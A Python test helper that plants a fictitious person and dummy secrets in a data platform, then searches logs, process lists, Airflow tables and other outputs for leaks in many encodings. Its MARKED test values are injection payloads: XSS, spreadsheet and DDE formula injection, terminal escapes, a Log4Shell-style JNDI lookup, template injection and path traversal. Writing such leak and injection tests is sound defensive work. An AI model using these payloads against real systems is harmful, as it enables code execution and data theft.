"""Look for a made-up person and made-up secrets wherever they must not be (R19).

The values are unmistakable: none is a part of another, and none occurs in code or test data. They go through the
product; then every place that must be silent is searched for each of them, in the encodings that programs write.
"""

from __future__ import annotations

import base64
import html
import json
import re
import threading
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, quote_plus

PERSON: Mapping[str, str] = {
    "first name": "Zéphyrinette",
    "last name": "Quagliozzimbre",
    "email": "zq.canari@wuxlandia.example.org",
    "phone": "698547231",  # without prefix and blanks, as it is in both forms
    "birth date": "1931-07-19",
}
"""A person as most are."""

WORDS: Mapping[str, str] = {
    "ERP id": "Kvorpidum-77391",
    "group": "Vlimmergroep Xanadu",
    "status": "brumblestatus",
}
"""What else their record says; whoever filled in the wrong column may have put a person there."""

MARKED: Mapping[str, str] = {
    "marked first name": '<script>alert("pwnedzibble")</script>',
    "marked last name": '=HYPERLINK("https://evil.example/qumbrax","x")',
    "marked email": "\x1b]8;;https://evil.example/\x07flonkwister[/x]",
    "marked phone": "@SUM(1+1)*cmd|' /C drabblequonk'!A0",
    "marked birth date": "${jndi:ldap://snorfleberry}{{7*7}}%n",
    "marked ERP id": "../../[link=grompelzwick]\u202e",
}
"""A person whose values are markup, control sequences and formulas."""

#: The part of each marked value that nobody escapes.
MARKS: Mapping[str, str] = {
    name: re.search(
        "pwnedzibble|qumbrax|flonkwister|drabblequonk|snorfleberry|grompelzwick", text
    ).group()  # type: ignore[union-attr]  # each has one
    for name, text in MARKED.items()
}

SECRETS: Mapping[str, str] = {
    "password": "Pq7-wachtwoord-ZEBRAFINK+9/&",
    "login": "inlogger-KRAANVOGEL-4417",
    "API key": "ak_live_ROERDOMPxyz0173",
    "store key": base64.urlsafe_b64encode(b"STORE-KEY-of-the-canary-32-bytes").decode(),
    "webhook secret": "whsec_" + base64.b64encode(b"webhook-secret-of-the-canary").decode(),
}
"""Secrets of connections and settings; a session token is added when the ERP has made one."""

PLACES: Mapping[str, str] = {
    "logs": "every log file of Airflow, PostgreSQL and the simulated ERPs; what the program logs at level DEBUG",
    "stderr": "what commands print on standard error",
    "file names": "the names of all files and folders in the snapshot store and below `var`",
    "process list": "the command lines of all processes, sampled while everything runs",
    "XCom": "every row of Airflow's `xcom`, and the steps that tasks hand on",
    "rendered templates": "every row of `rendered_task_instance_fields`, and `rendered_map_index`",
    "notes": "notes of task instances and of Dag runs",
    "asset events": "the extras of asset events",
    "Airflow's database": "every other table of Airflow's own database",
    "metrics and traces": "everything that is sent to an OpenTelemetry collector",
    "validation results": "what Great Expectations is given, and what it answers",
    "error pages": "internal errors of the pages and of the API",
    "refused responses": "every response to somebody without the right",
    "base without people": "every table of the club base that holds no personal data (`PERSONAL`)",
}
"""Where nothing of a person and no secret may be. SECURITY.md lists them; a test compares the two."""

PERSONAL = frozenset(
    {
        "base.customer",
        "base.app_user",
        "base.attachment_request",
        "sync.change",
        "sync.erp_customer",
        "sync.finding",
    }
)
"""Tables of the club base that may hold personal data."""


def encodings(value: str) -> dict[str, bytes]:
    """The value as programs write it, by the name of the encoding.

    Base64 depends on the bytes before: of each of the three alignments the part that does not.
    """
    plain = value.encode()
    in_json = json.dumps(value)[1:-1]
    found = {
        "plain": plain,
        "URL": quote(value, safe="").encode(),
        "form": quote_plus(value).encode(),
        "JSON": in_json.encode(),
        "JSON in JSON": json.dumps(in_json)[1:-1].encode(),
        "repr": repr(value)[1:-1].encode(),
        "HTML": html.escape(value).encode(),
        "UTF-16 LE": value.encode("utf-16-le"),
        "UTF-16 BE": value.encode("utf-16-be"),
        "Latin-1": value.encode("latin-1", "replace"),
        "hex": plain.hex().encode(),
    }
    for shift in range(3):
        packed = base64.b64encode(b"\0" * shift + plain)
        whole = packed[-(-shift * 8 // 6) : (shift + len(plain)) * 8 // 6]
        found[f"Base64 at {shift}"] = whole
        found[f"URL-safe Base64 at {shift}"] = whole.replace(b"+", b"-").replace(b"/", b"_")
    return found


@dataclass(frozen=True, order=True)
class Leak:
    """A value that was found where it must not be."""

    place: str
    where: str
    value: str
    encoding: str


@dataclass
class Searcher:
    """Searches for values, and remembers which places it has searched.

    :param values: what to look for, by its name.
    """

    values: Mapping[str, str]
    searched: dict[str, int] = field(default_factory=dict)
    leaks: set[Leak] = field(default_factory=set)

    def __post_init__(self) -> None:
        self._patterns: dict[bytes, tuple[str, str]] = {}
        for name, value in self.values.items():
            for encoding, pattern in encodings(value).items():
                self._patterns.setdefault(pattern.lower(), (name, encoding))

    def text(self, place: str, where: str, content: str | bytes) -> None:
        """Search one text.

        :param place: one of `PLACES`.
        """
        assert place in PLACES, place
        raw = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
        raw = raw.lower()
        self.searched[place] = self.searched.get(place, 0) + len(raw)
        for pattern, (name, encoding) in self._patterns.items():
            if pattern in raw:
                self.leaks.add(Leak(place, where, name, encoding))

    def rows(self, place: str, where: str, rows: Iterable[object]) -> None:
        """Search rows of a table, each as a text."""
        self.text(place, where, "\n".join(map(str, rows)))

    def logs(self, folder: Path, *, but: Iterable[str] = ()) -> None:
        """Search every file below the folder.

        :param but: first parts of paths that are no logs.
        """
        for path in files(folder):
            where = path.relative_to(folder).as_posix()
            if not where.startswith(tuple(but)):
                self.text("logs", where, path.read_bytes())

    def names(self, folder: Path) -> None:
        """Search the names of all files and folders."""
        self.rows("file names", folder.name, (p.relative_to(folder) for p in folder.rglob("*")))

    def told(self) -> list[str]:
        """The leaks, one sentence each."""
        return [
            f"{one.place}: {one.where}: {one.value} ({one.encoding})" for one in sorted(self.leaks)
        ]


def files(folder: Path) -> Iterator[Path]:
    """The regular files below a folder, which may change meanwhile."""
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            yield path


@contextmanager
def process_list(searcher: Searcher) -> Iterator[None]:
    """Sample the command lines of all processes while the block runs, and search them."""
    seen: set[bytes] = set()
    over = threading.Event()

    def sample() -> None:
        while True:
            for one in Path("/proc").glob("[0-9]*/cmdline"):
                try:
                    seen.add(one.read_bytes())
                except OSError:
                    continue  # it has ended
            if over.wait(0.05):
                return

    thread = threading.Thread(target=sample, daemon=True)
    thread.start()
    try:
        yield
    finally:
        over.set()
        thread.join()
        searcher.text("process list", "/proc", b"\n".join(seen))
